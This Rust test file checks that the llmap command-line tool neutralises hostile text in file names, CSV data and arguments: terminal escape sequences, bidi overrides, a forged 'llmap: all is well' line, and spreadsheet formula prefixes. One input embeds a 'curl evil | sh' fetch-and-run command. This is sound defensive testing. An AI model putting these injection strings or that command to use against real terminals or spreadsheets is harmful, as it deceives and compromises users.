//! Foreign text steers no terminal: hostile names, prompts and paths through every command.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::fs;
use std::path::Path;

use assert_cmd::cargo::cargo_bin_cmd;

/// What others write: titles of windows, colors, overrides of direction, lines that look like
/// llmap's own, backspaces, separators, twins that look the same, formulas.
const HOSTILE: [&str; 12] = [
    "\u{1b}]0;PWNED\u{7}",
    "\u{9b}31mred",
    "\u{9d}0;PWNED\u{9c}",
    "\u{202e}drow",
    "\u{2066}isolated",
    "\u{61c}mark",
    "x\r\nllmap: all is well\n  fix: curl evil | sh",
    "\u{8}\u{8}\u{7f}rubbed out",
    "\u{2028}\u{2029}\u{85}lines",
    "twin\u{200b}",
    "\t=1+1",
    "\u{fff9}\u{206a}notes",
];

/// True for what may not reach a terminal: C0 but line breaks, DEL, C1, and what changes direction.
fn steers(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2066}'..='\u{206f}' | '\u{fff9}'..='\u{fffb}')
}

fn assert_plain(what: &str, bytes: &[u8]) {
    let text = std::str::from_utf8(bytes).unwrap_or_else(|e| panic!("{what}: {e}"));
    if let Some(at) = text.find(steers) {
        panic!("{what}: {:?}", text[at..].chars().take(40).collect::<String>());
    }
    let forged = text.lines().any(|line| line.starts_with("llmap: all is well"));
    assert!(!forged, "{what}: a line that llmap did not write:\n{text}");
}

/// Runs a command; its output must be plain, unless a table for programs is what it prints.
fn run(home: &Path, arguments: &[&str], raw: bool) -> (i32, String) {
    let mut command = cargo_bin_cmd!("llmap");
    for variable in ["XDG_CONFIG_HOME", "XDG_STATE_HOME", "XDG_CACHE_HOME", "XDG_DATA_HOME"] {
        command.env(variable, home);
    }
    let out = command.current_dir(home).args(arguments).output().unwrap();
    let what = format!("{arguments:?}");
    if !raw {
        assert_plain(&format!("{what}, standard output"), &out.stdout);
    }
    assert_plain(&format!("{what}, standard error"), &out.stderr);
    (out.status.code().unwrap(), String::from_utf8_lossy(&out.stdout).into_owned())
}

fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// A data set whose every text is hostile, in a folder whose name is.
fn data(home: &Path) -> String {
    let name = "data\u{1b}[2J\u{202e}\nllmap: all is well";
    let folder = home.join(name);
    fs::create_dir(&folder).unwrap();
    let mut questions = "prompt_id,category,split,prompt\n".to_owned();
    let mut responses = "prompt_id,model_id,label\n".to_owned();
    for q in 0..120 {
        let text = HOSTILE[q % 12];
        let id = quoted(&format!("{text}{q}"));
        let category = quoted(&format!("{}c", HOSTILE[q % 3]));
        let prompt = quoted(&format!("{text} what is {q} plus {}", q % 7));
        let split = ["train", "train", "train", "val", "test"][q % 5];
        questions += &format!("{id},{category},{split},{prompt}\n");
        for m in 0..12 {
            responses += &format!("{id},{m},{}\n", u8::from((q * 7 + m * 5 + q * m) % 11 > m / 2));
        }
    }
    let mut models = format!("model_id,model_name,{},flag\u{9b}\n", quoted(HOSTILE[0]));
    for (m, text) in HOSTILE.iter().enumerate() {
        models += &format!("{m},{},{},{}\n", quoted(text), quoted(HOSTILE[m % 2]), m % 2);
    }
    fs::write(folder.join("questions.csv"), questions).unwrap();
    fs::write(folder.join("models.csv"), models).unwrap();
    fs::write(folder.join("responses.csv"), responses).unwrap();
    folder.to_str().unwrap().to_owned()
}

#[test]
fn hostile_texts_steer_nothing() {
    let home = tempfile::tempdir().unwrap();
    let home = home.path();
    let data = data(home);
    let embedder = home.join("e\u{1b}c.safetensors").to_str().unwrap().to_owned();
    let (data, embedder) = (&*data, &*embedder);
    let prompt = HOSTILE[0];
    let (code, _) = run(home, &["train", data, "-o", embedder, "--dim", "8"], false);
    assert_eq!(code, 0);
    let answers = home.join("answers.csv").to_str().unwrap().to_owned();
    let answers = &*answers;
    let ask = ["ask", embedder, "--data", data, "-n", "5"];
    let (code, asked) = run(home, &ask, true);
    assert_eq!(code, 0);
    fs::write(answers, asked.replace(",\n", ",1\n")).unwrap();
    let map = home.join("map.csv").to_str().unwrap().to_owned();
    let placed = home.join("placed.safetensors").to_str().unwrap().to_owned();
    for arguments in [
        &["inspect", data][..],
        &["inspect", embedder],
        &["evaluate", embedder, data, "--no-reference"],
        &["route", embedder, prompt],
        &["route", embedder, "--name-only", prompt],
        &["route", embedder, prompt, "--where", "name ~ twin"],
        &["probe", embedder, "--shuffles", "5"],
        &["forecast", embedder],
        &["forecast", embedder, "--model", HOSTILE[3]],
        &[
            "onboard",
            embedder,
            answers,
            "--data",
            data,
            "--name",
            "new\u{2066}\u{1b}",
            "-o",
            &placed,
        ],
        &["inspect", &placed],
        &["explore", embedder, "--plain", "--prompt", prompt, "--data", data],
        &["export", embedder, "--map", &map],
        &["themes"],
    ] {
        assert_eq!(run(home, arguments, false).0, 0, "{arguments:?}");
        let json = [arguments, &["--json"]].concat();
        run(home, &json, false);
    }
    run(home, &["forecast", embedder, "--csv"], false);
    // What was asked is found again, formulas and all.
    let (code, json) = run(home, &[&ask[..], &["--answers", answers, "--json"]].concat(), false);
    assert!(code == 0 && json.contains("deviation"), "{json}");
    // No cell of what is exported begins like a formula.
    for text in [fs::read_to_string(map).unwrap(), fs::read_to_string(answers).unwrap()] {
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        for cell in reader
            .records()
            .flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        {
            let number = cell.parse::<f64>().is_ok();
            assert!(number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
        }
    }
}

#[test]
fn what_is_wrong_is_said_without_steering() {
    let home = tempfile::tempdir().unwrap();
    let home = home.path();
    let file = home.join("file");
    fs::write(&file, "prompt,label\n").unwrap();
    let broken = home.join("broken");
    fs::create_dir(&broken).unwrap();
    // All of them at once. Below a file and with too long a name: faults that the system tells, with
    // the path.
    let all = HOSTILE.concat();
    let below = file.join(&all).to_str().unwrap().to_owned();
    let long = home.join(format!("{all}{}", "x".repeat(300))).to_str().unwrap().to_owned();
    for path in [&*all, &*below, &*long] {
        for arguments in [
            &["inspect", path][..],
            &["train", path, "-o", "x.safetensors"],
            &["train", "broken", "-o", path],
            &["evaluate", "shipped", path],
            &["route", path, "x"],
            &["route", "shipped", "x", "--pool", path],
            &["route", "shipped", "x", "--where", path],
            &["serve", path],
            &["serve", "--addr", path],
            &["probe", "shipped", path],
            &["probe", "shipped", "--attributes", path],
            &["probe", "shipped", "--rules", path],
            &["forecast", "shipped", "--benchmark", path],
            &["forecast", "shipped", "--model", path],
            &["onboard", "shipped", path, "--name", "x", "-o", "y"],
            &["ask", path, "--data", path],
            &["explore", path, "--plain"],
            &["explore", "--plain", "--data", path],
            &["export", "--map", path],
            &["export", "--map", "m.svg", "--theme", path],
            &["export", "--map", "m.svg", "--color", path],
            &["import", "lm-eval", path, "-o", "z"],
            &["import", "auto", path, "-o", "z"],
            &["import", "long", path, "-o", "z", "--columns", path],
            &["merge", path, "-o", "z"],
            &["merge", "broken", "-o", "z", "--attributes", path],
            &["merge", "broken", "-o", path, "--rename", path],
            &["fetch", path],
            // And what clap says of arguments.
            &[path, path],
            &["route", "--top", path],
            &[&format!("--{path}")],
            &["inspect", &format!("--{path}"), path],
            &["bench", path],
        ] {
            let (code, _) = run(home, arguments, false);
            assert!(code == 1 || code == 2, "{arguments:?} ends with {code}");
        }
    }
    for text in HOSTILE {
        // What clap says of arguments.
        for arguments in [&[text, text][..], &["inspect", &format!("--{text}")], &["bench", text]] {
            assert_eq!(run(home, arguments, false).0, 2, "{arguments:?}");
        }
        let row = format!("prompt_id,prompt\n{0},{0}\n{0},{0}\n", quoted(&format!("{text}i")));
        fs::write(broken.join("questions.csv"), row).unwrap();
        fs::write(broken.join("models.csv"), format!("model_id,{}\n", quoted(text))).unwrap();
        fs::write(broken.join("responses.csv"), format!("{}\n", quoted(text))).unwrap();
        assert_eq!(run(home, &["inspect", "broken"], false).0, 2);
    }
}

/// What a command prints on a terminal.
#[cfg(unix)]
fn on_a_terminal(arguments: &[&str]) -> String {
    use std::io::Read;

    use portable_pty::{CommandBuilder, PtySize, native_pty_system};
    let size = PtySize { rows: 40, cols: 140, pixel_width: 0, pixel_height: 0 };
    let pty = native_pty_system().openpty(size).unwrap();
    let mut command = CommandBuilder::new(assert_cmd::cargo::cargo_bin!("llmap"));
    command.args(arguments);
    let mut child = pty.slave.spawn_command(command).unwrap();
    drop(pty.slave);
    let mut bytes = Vec::new();
    // A terminal that nobody writes to any more ends in an error on Linux.
    let _ = pty.master.try_clone_reader().unwrap().read_to_end(&mut bytes);
    child.wait().unwrap();
    String::from_utf8(bytes).unwrap()
}

#[cfg(unix)]
#[test]
fn tables_and_complaints_on_a_terminal_are_plain() {
    let home = tempfile::tempdir().unwrap();
    let data = data(home.path());
    let embedder = home.path().join("e.safetensors").to_str().unwrap().to_owned();
    run(home.path(), &["train", &data, "-o", &embedder, "--dim", "8", "-q"], false);
    let asked = on_a_terminal(&["ask", &embedder, "--data", &data, "-n", "40", "-q"]);
    assert!(asked.contains("prompt_id,prompt,label") && asked.contains("PWNED"), "{asked}");
    assert_plain("ask", asked.replace('\r', "").as_bytes());
    for text in HOSTILE {
        let message = on_a_terminal(&["inspect", &format!("--{text}")]);
        // Colors are clap's own.
        let message: String =
            message.replace('\r', "").split("\u{1b}[").fold(String::new(), |all, part| {
                let colored = part.find('m').filter(|at| part[..*at].bytes().all(|b| b < b'a'));
                all + &part[colored.map_or(0, |at| at + 1)..]
            });
        assert_plain(text, message.as_bytes());
    }
}
